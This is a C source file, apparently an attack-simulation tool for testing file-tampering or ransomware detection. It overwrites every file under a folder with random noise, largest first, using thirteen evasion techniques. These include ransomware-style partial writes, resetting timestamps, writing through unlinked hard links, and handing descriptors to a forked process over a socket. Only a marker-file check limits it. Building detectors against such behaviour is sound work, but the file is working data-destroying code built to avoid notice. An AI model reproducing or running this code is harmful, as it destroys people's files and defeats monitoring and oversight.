/* evade WAY FOLDER: overwrites every file below the folder with noise, the largest first, in a way that hopes not to be seen or not to be
 * undone. evade make FILE MEBIBYTES: a file to lose. Harmless: it works only in a folder with `.norn-attack-corpus` in it. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

enum { piece = 1 << 16, files_max = 4096 };
static unsigned char noise[piece];

static void make_noise(void) {
  int fd = open("/dev/urandom", O_RDONLY);
  for (size_t done = 0; done < piece;) done += read(fd, noise + done, piece - done);
  close(fd);
}

/* Small files whole, of large ones 64 KiB in each 8 MiB: as encryptors in a hurry do. */
static void spoil(int fd, off_t size) {
  for (off_t at = 0; at < size; at += size > 64 << 20 ? 8 << 20 : piece) {
    size_t length = size - at < piece ? size - at : piece;
    if (pwrite(fd, noise, length, at) < 0) perror("write");
  }
  close(fd);
}

static off_t size_of(const char *path) {
  struct stat found;
  return stat(path, &found) == 0 ? found.st_size : 0;
}

static void in_place(const char *path) { spoil(open(path, O_RDWR), size_of(path)); }

static void truncated(const char *path) {
  off_t size = size_of(path);
  syscall(SYS_truncate, path, 0);
  spoil(open(path, O_WRONLY), size);
}

static void removed(const char *path) { syscall(SYS_unlink, path); }

static void renamed_over(const char *path) {
  char other[4096];
  snprintf(other, sizeof other, "%s.locked", path);
  spoil(open(other, O_WRONLY | O_CREAT, 0600), size_of(path));
  rename(other, path);
}

/* With the time set back, as if nobody had written. */
static void times_set_back(const char *path) {
  struct stat found;
  if (stat(path, &found) != 0) return;
  in_place(path);
  struct timespec times[2] = {found.st_atim, found.st_mtim};
  utimensat(AT_FDCWD, path, times, 0);
}

/* "/name" is a file of the descriptor's folder, not of the root. */
static void in_root_of_its_own(const char *path) {
  char folder[4096], name[4096];
  strcpy(folder, path);
  char *slash = strrchr(folder, '/');
  snprintf(name, sizeof name, "%s", slash);
  *slash = 0;
  int at = open(folder, O_PATH | O_DIRECTORY);
  struct open_how how = {.flags = O_RDWR, .resolve = RESOLVE_IN_ROOT};
  spoil(syscall(SYS_openat2, at, name, &how, sizeof how), size_of(path));
  close(at);
}

/* By a second name that is gone when it is written. */
static void by_a_name_that_is_gone(const char *path) {
  char other[4096], link_to_it[64];
  snprintf(other, sizeof other, "%s~", path);
  if (link(path, other) != 0) return;
  int fd = open(other, O_RDONLY);
  unlink(other);
  snprintf(link_to_it, sizeof link_to_it, "/proc/self/fd/%d", fd);
  spoil(open(link_to_it, O_RDWR), size_of(path));
  close(fd);
}

/* Opened to append only, and then not. */
static void appended(const char *path) {
  int fd = open(path, O_RDWR | O_APPEND);
  fcntl(fd, F_SETFL, 0);
  spoil(fd, size_of(path));
}

static void by_a_child(const char *path) {
  int fd = open(path, O_RDWR);
  if (fork() == 0) {
    spoil(fd, size_of(path));
    _exit(0);
  }
  close(fd);
  wait(NULL);
}

/* The descriptor goes to a process that never opened a file. */
static void by_a_stranger(const char *path) {
  static int ends[2] = {-1, -1};
  if (ends[0] < 0) {
    socketpair(AF_UNIX, SOCK_SEQPACKET, 0, ends);
    if (fork() == 0) {
      for (;;) {
        char byte, space[CMSG_SPACE(sizeof(int))];
        struct iovec part = {&byte, 1};
        struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
        if (recvmsg(ends[1], &message, 0) <= 0) _exit(0);
        int fd = *(int *)CMSG_DATA(CMSG_FIRSTHDR(&message));
        struct stat found;
        fstat(fd, &found);
        spoil(fd, found.st_size);
        send(ends[1], "d", 1, 0);
      }
    }
  }
  int fd = open(path, O_RDWR);
  char byte = 'x', space[CMSG_SPACE(sizeof(int))] = {0};
  struct iovec part = {&byte, 1};
  struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
  struct cmsghdr *head = CMSG_FIRSTHDR(&message);
  *head = (struct cmsghdr){.cmsg_len = CMSG_LEN(sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS};
  memcpy(CMSG_DATA(head), &fd, sizeof fd);
  sendmsg(ends[0], &message, 0);
  close(fd);
  recv(ends[0], &byte, 1, 0);
}

/* What a process may not do here; then as if it had not tried. */
static void refused(const char *path) {
  static int tried;
  if (!tried++) {
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) puts("a view of its own");
    if (syscall(SYS_io_uring_setup, 8, noise) >= 0) puts("a ring");
    if (syscall(SYS_open_by_handle_at, 3, noise, O_RDWR) >= 0) puts("a handle");
    fflush(stdout);
  }
  in_place(path);
}

static void *spoil_it(void *path) {
  in_place(path);
  return NULL;
}

static void by_a_thread(const char *path) {
  pthread_t thread;
  pthread_create(&thread, NULL, spoil_it, (void *)path);
  pthread_join(thread, NULL);
}

static void mapped(const char *path) {
  off_t size = size_of(path);
  int fd = open(path, O_RDWR);
  unsigned char *memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  close(fd);
  if (memory == MAP_FAILED) return;
  for (off_t at = 0; at < size; at++) memory[at] = noise[at % piece];
  munmap(memory, size);
}

static const struct {
  const char *name;
  void (*of)(const char *);
} ways[] = {
    {"in-place", in_place},       {"truncated", truncated},
    {"removed", removed},         {"renamed-over", renamed_over},
    {"times-set-back", times_set_back},
    {"root-of-its-own", in_root_of_its_own},
    {"name-that-is-gone", by_a_name_that_is_gone},
    {"appended", appended},       {"by-a-child", by_a_child},
    {"by-a-stranger", by_a_stranger},
    {"refused", refused},         {"by-a-thread", by_a_thread},
    {"mapped", mapped},
};

static char *found[files_max];
static int found_count;

static void look(const char *folder) {
  DIR *entries = opendir(folder);
  for (struct dirent *entry; entries && (entry = readdir(entries));) {
    if (entry->d_name[0] == '.' || found_count == files_max) continue;
    char *path;
    if (asprintf(&path, "%s/%s", folder, entry->d_name) < 0) continue;
    struct stat what;
    if (lstat(path, &what) != 0) continue;
    if (S_ISDIR(what.st_mode)) look(path);
    else if (S_ISREG(what.st_mode) && what.st_nlink == 1 && what.st_size > 0) found[found_count++] = path;
  }
  if (entries) closedir(entries);
}

static int larger(const void *one, const void *other) {
  off_t a = size_of(*(char **)one), b = size_of(*(char **)other);
  return (a < b) - (a > b);
}

static int make(const char *path, int mebibytes) {
  static uint64_t words[1 << 17];
  FILE *file = fopen(path, "w");
  for (int at = 0; at < mebibytes; at++) {
    for (int word = 0; word < 1 << 17; word++) words[word] = (uint64_t)at << 32 | word;
    fwrite(words, 1, sizeof words, file);
  }
  return fclose(file);
}

int main(int count, char **words) {
  if (count == 4 && strcmp(words[1], "make") == 0) return make(words[2], atoi(words[3]));
  char marker[4096];
  if (count != 3) return 2;
  snprintf(marker, sizeof marker, "%s/.norn-attack-corpus", words[2]);
  if (access(marker, F_OK) != 0) return 2;
  make_noise();
  look(words[2]);
  qsort(found, found_count, sizeof *found, larger);
  for (size_t way = 0; way < sizeof ways / sizeof *ways; way++)
    for (int at = 0; at < found_count && strcmp(ways[way].name, words[1]) == 0; at++) ways[way].of(found[at]);
  return 0;
}
